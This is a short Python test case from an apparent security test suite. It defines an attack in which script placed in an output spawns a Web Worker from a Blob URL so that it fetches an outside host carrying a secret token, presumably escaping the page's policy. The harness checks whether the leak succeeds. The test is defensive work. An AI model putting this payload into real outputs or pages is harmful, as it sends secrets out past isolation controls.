"""A worker, which has a policy of its own, fetches from outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    script = f"""new Worker(URL.createObjectURL(new Blob([`fetch('http://{WEB}/{ground.token}')`])))"""
    return ground.leave_by_script(script)


ATTACK = Attack("a script in an output", attempt, recorded=("gateway.refused", "message.media"))
